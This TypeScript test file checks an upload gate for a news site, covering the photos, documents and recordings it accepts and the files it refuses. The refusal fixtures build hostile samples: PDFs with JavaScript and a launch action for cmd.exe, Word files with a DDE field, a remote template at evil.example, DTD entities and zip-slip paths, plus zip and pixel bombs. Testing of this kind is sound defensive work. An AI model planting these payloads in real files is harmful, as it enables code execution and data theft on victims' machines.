import { PDFName, PDFString } from '@cantoo/pdf-lib';
import { strToU8, zipSync } from 'fflate';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { acceptUpload, INTAKES } from '../../server/upload/gate.ts';
import { UploadRefused } from '../../server/upload/refused.ts';
import { MEDIA_TYPES } from '../../src/core/store/media.ts';
import {
  docx,
  join,
  m4a,
  mp3,
  odt,
  ogg,
  opening,
  pdf,
  photo,
  picture,
  pixelBomb,
  repacked,
  roundabout,
  sendingForm,
  wav,
  xlsx,
} from '../support/upload-corpus.ts';

const FOLDER = 'articles/2026/10/cap-the-can-cuoc';
const RELS = 'word/_rels/document.xml.rels';
const DOCUMENT = 'word/document.xml';

/** A relationship added to those of a Word document. */
const related = (type: string, target: string) => (text: string) =>
  text.replace(
    '</Relationships>',
    `<Relationship Id="x" Type="http://x/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  );
/** Something put before the text of a Word document ends. */
const inText = (markup: string) => (text: string) =>
  text.replace('</w:body>', `${markup}</w:body>`);
const svg = strToU8('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
const page = strToU8('<!doctype html><script>alert(1)</script>');
const program = join(strToU8('MZ'), new Uint8Array(200));

const PASSES: Record<string, [string, () => Promise<Uint8Array> | Uint8Array]> = {
  'a photo': ['anh.jpg', photo],
  'a photo with another ending of its kind': ['anh.jpeg', photo],
  'a drawing': ['so-do.png', () => picture('png')],
  webp: ['anh.webp', () => picture('webp')],
  avif: ['anh.avif', () => picture('avif')],
  'a document': ['cong-van.pdf', () => pdf()],
  'a document of the old form': ['cong-van.pdf', () => pdf(undefined, false)],
  'a Word form': ['mau-don.docx', docx],
  'a Word form with a link': [
    'mau-don.docx',
    async () =>
      repacked(await docx(), { [RELS]: related('hyperlink', 'https://dichvucong.gov.vn') }),
  ],
  'a Word form that speaks of macros and DDE': [
    'mau-don.docx',
    async () =>
      repacked(await docx(), {
        [DOCUMENT]: inText('<w:p><w:r><w:t>DDE và macro</w:t></w:r></w:p>'),
      }),
  ],
  'a table': ['bieu.xlsx', xlsx],
  'an OpenDocument text': ['mau.odt', () => odt()],
  'a broadcast': ['ban-tin.mp3', () => mp3()],
  'a telephone’s recording': ['ban-tin.m4a', () => m4a()],
  'an open recording': ['ban-tin.ogg', () => ogg()],
  'a plain recording': ['ban-tin.wav', () => wav()],
};

const REFUSED: Record<string, [string, () => Promise<Uint8Array> | Uint8Array, RegExp]> = {
  'a drawing that runs': ['hinh.svg', () => svg, /Loại tệp «\.svg»/],
  'a page': ['trang.html', () => page, /Loại tệp «\.html»/],
  'a program': ['cai-dat.exe', () => program, /Loại tệp «\.exe»/],
  'a text with macros by name': ['don.docm', docx, /Loại tệp «\.docm»/],
  'no ending': ['tep', () => mp3(), /không có đuôi/],
  'a drawing renamed': ['hinh.png', () => svg, /Nội dung là application\/xml|không nhận ra/],
  'a program renamed': ['anh.jpg', () => program, /không phải tệp \.jpg/],
  'a page renamed': ['anh.jpg', () => page, /không phải tệp \.jpg/],
  'a PNG called JPEG': ['anh.jpg', () => picture('png'), /image\/png/],
  'a PDF called Word': ['a.docx', () => pdf(), /application\/pdf/],
  'an archive called Word': ['a.docx', () => zipSync({ 'a.txt': strToU8('a') }), /không phải/],
  nothing: ['anh.jpg', () => new Uint8Array(), /Tệp rỗng/],
  'a photo cut short': ['anh.jpg', async () => (await photo(800, 800)).subarray(0, 1200), /hỏng/],
  'a pixel bomb': ['anh.png', pixelBomb, /80 triệu điểm ảnh/],
  'too large a file': ['anh.jpg', () => new Uint8Array(26 * 1024 * 1024), /26,0 MB, quá 25 MB/],
  'JavaScript on opening': [
    'a.pdf',
    () => pdf(opening({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })),
    /JavaScript/,
  ],
  'JavaScript in the old form': [
    'a.pdf',
    () => pdf(opening({ S: 'JavaScript', JS: PDFString.of('1') }), false),
    /JavaScript/,
  ],
  'JavaScript spelt out in codes': [
    'a.pdf',
    async () =>
      Buffer.from(
        Buffer.from(await pdf(opening({ S: 'JavaScript' }), false))
          .toString('latin1')
          .replace('/JavaScript', '/J#61vaScr#69pt'),
        'latin1',
      ),
    /JavaScript|hỏng/,
  ],
  'JavaScript by name': [
    'a.pdf',
    () => pdf((one) => one.addJavaScript('x', 'app.alert(1)')),
    /JavaScript/,
  ],
  'a launch action': [
    'a.pdf',
    () => pdf(opening({ S: 'Launch', F: PDFString.of('cmd.exe') })),
    /mở chương trình/,
  ],
  'a launch action by a detour': ['a.pdf', () => pdf(roundabout), /mở chương trình/],
  'a file in a file': ['a.pdf', () => pdf((one) => one.attach(program, 'a.exe')), /tệp đính kèm/],
  'a form that sends itself': ['a.pdf', () => pdf(sendingForm), /tự gửi dữ liệu/],
  'an XFA form': [
    'a.pdf',
    () => pdf((one) => one.catalog.set(PDFName.of('AcroForm'), one.context.obj({ XFA: [] }))),
    /XFA/,
  ],
  'a locked PDF': [
    'a.pdf',
    () => pdf((one) => one.encrypt({ userPassword: 'x', ownerPassword: 'y' })),
    /mật khẩu/,
  ],
  'a PDF behind a page': [
    'a.pdf',
    async () => join(page, await pdf()),
    /kèm trước|không phải tệp \.pdf/,
  ],
  'an archive behind a PDF': ['a.pdf', async () => join(await pdf(), xlsx()), /kèm trước hay sau/],
  'a PDF cut short': ['a.pdf', async () => (await pdf()).subarray(0, 400), /hỏng/],
  'Word with macros': [
    'a.docx',
    async () => repacked(await docx(), { 'word/vbaProject.bin': 'x' }),
    /macro/,
  ],
  'Word with an embedded object': [
    'a.docx',
    async () => repacked(await docx(), { 'word/embeddings/oleObject1.bin': 'x' }),
    /nhúng/,
  ],
  'Word with a template elsewhere': [
    'a.docx',
    async () =>
      repacked(await docx(), {
        [RELS]: related('attachedTemplate', 'https://evil.example/t.dotm'),
      }),
    /tệp mẫu ở nơi khác/,
  ],
  'Word with a picture elsewhere': [
    'a.docx',
    async () => repacked(await docx(), { [RELS]: related('image', 'https://evil.example/a.png') }),
    /lấy nội dung từ nơi khác/,
  ],
  'Word with a link into this machine': [
    'a.docx',
    async () => repacked(await docx(), { [RELS]: related('hyperlink', 'file:///C:/a.exe') }),
    /tệp trên máy/,
  ],
  'Word with a DDE field in pieces': [
    'a.docx',
    async () =>
      repacked(await docx(), {
        [DOCUMENT]: inText(
          '<w:instrText> DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText>',
        ),
      }),
    /DDE/,
  ],
  'Word in another encoding': [
    'a.docx',
    async () =>
      repacked(await docx(), {
        'word/comments.xml': '<?xml version="1.0" encoding="UTF-16"?><a/>',
      }),
    /UTF-8/,
  ],
  'Word with entities': [
    'a.docx',
    async () =>
      repacked(await docx(), { 'word/comments.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }),
    /DTD/,
  ],
  'Word that leads out of its folder': [
    'a.docx',
    async () => repacked(await docx(), { '../../a.xml': 'x' }),
    /trái phép/,
  ],
  'Word with something behind it': [
    'a.docx',
    async () => join(await docx(), page),
    /kèm trước hay sau/,
  ],
  'Excel with data from elsewhere': [
    'a.xlsx',
    () => repacked(xlsx(), { 'xl/externalLinks/externalLink1.xml': '<a/>' }),
    /lấy dữ liệu/,
  ],
  'a zip bomb': [
    'a.xlsx',
    () =>
      zipSync({
        '[Content_Types].xml': strToU8(
          '<a ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>',
        ),
        'xl/workbook.xml': new Uint8Array(151 * 1024 * 1024),
      }),
    /quá lớn/,
  ],
  'OpenDocument with a script': [
    'a.odt',
    () => odt('<office:scripts><office:script/></office:scripts>'),
    /macro/,
  ],
  'OpenDocument that fetches': [
    'a.odt',
    () => odt('<text:section-source xlink:href="https://evil.example/a.odt"/>'),
    /nơi khác/,
  ],
  'sound with a page behind it': [
    'a.mp3',
    () => mp3('<script>alert(1)</script>'),
    /kèm nội dung khác/,
  ],
  'sound with an archive behind it': ['a.mp3', () => join(mp3(), xlsx()), /tệp nén/],
  'a film': ['a.m4a', () => m4a('vide'), /tệp phim/],
};

const NAMES: [string, RegExp][] = [
  [`${FOLDER}/Ảnh Lễ ra mắt.jpg`, /ví dụ anh-le-ra-mat\.jpg/],
  [`${FOLDER}/anh.php.jpg`, /ví dụ anh-php\.jpg/],
  [`${FOLDER}/ANH.JPG`, /ví dụ anh\.jpg/],
  [`${FOLDER}/con.jpg`, /ví dụ tep-con\.jpg/],
  [`${FOLDER}/.jpg`, /ví dụ tep\.jpg/],
  [`${FOLDER}/a b.jpg`, /ví dụ a-b\.jpg/],
  [`${FOLDER}/../../../a.jpg`, /Đường dẫn/],
  ['/etc/a.jpg', /Đường dẫn/],
  ['articles\\a.jpg', /Đường dẫn/],
  ['a.jpg', /Đường dẫn/],
  ['.git/a.jpg', /Đường dẫn/],
  [`${FOLDER}/${'a'.repeat(200)}.jpg`, /200 ký tự/],
];

describe('what may come in', () => {
  test.each(Object.entries(PASSES))('%s', async (_, [name, make]) => {
    const { bytes } = await acceptUpload(`${FOLDER}/${name}`, await make());
    expect(bytes.length).toBeGreaterThan(0);
  });

  test('documents keep every byte: a signature stays good', async () => {
    for (const [name, make] of [
      ['a.pdf', pdf],
      ['a.docx', docx],
    ] as const) {
      const sent = await make();
      expect((await acceptUpload(`${FOLDER}/${name}`, sent)).bytes).toEqual(sent);
    }
  });

  test('one row for each type that may be published', () => {
    expect([...INTAKES.keys()].sort()).toEqual([...MEDIA_TYPES.keys()].sort());
  });
});

describe('pictures are drawn anew', () => {
  test('upright, without place, camera and what stood behind them', async () => {
    const sent = join(await photo(), page);
    expect(Buffer.from(sent).includes('May anh')).toBe(true);
    const { bytes } = await acceptUpload(`${FOLDER}/anh.jpg`, sent);
    expect(Buffer.from(bytes).includes('<script')).toBe(false);
    expect(Buffer.from(bytes).includes('May anh')).toBe(false);
    const { exif, xmp, icc, orientation, width, height } = await sharp(bytes).metadata();
    expect([exif, xmp, icc, orientation]).toEqual([undefined, undefined, undefined, undefined]);
    expect([width, height]).toEqual([40, 60]);
  });

  test('no larger than the site shows, no larger than they were', async () => {
    const large = await acceptUpload(`${FOLDER}/a.jpg`, await photo(4000, 3000));
    expect(await sharp(large.bytes).metadata()).toMatchObject({ width: 1500, height: 2000 });
    const small = await acceptUpload(`${FOLDER}/a.png`, await picture('png', 30));
    expect(await sharp(small.bytes).metadata()).toMatchObject({ width: 30, format: 'png' });
  });
});

describe('what is refused', () => {
  test.each(Object.entries(REFUSED))('%s', async (_, [name, make, reason]) => {
    const refusal = await acceptUpload(`${FOLDER}/${name}`, await make()).catch((error) => error);
    expect(refusal).toBeInstanceOf(UploadRefused);
    expect(refusal.reason).toMatch(reason);
    expect(refusal.file).toBe(`${FOLDER}/${name}`);
    expect(refusal.remedy).toMatch(/^(Hãy|Chỉ) .*\.$/);
  });

  test.each(NAMES)('%s', async (path, words) => {
    const refusal = await acceptUpload(path, await photo()).catch((error) => error);
    expect(refusal).toBeInstanceOf(UploadRefused);
    expect(refusal.message).toMatch(words);
  });
});
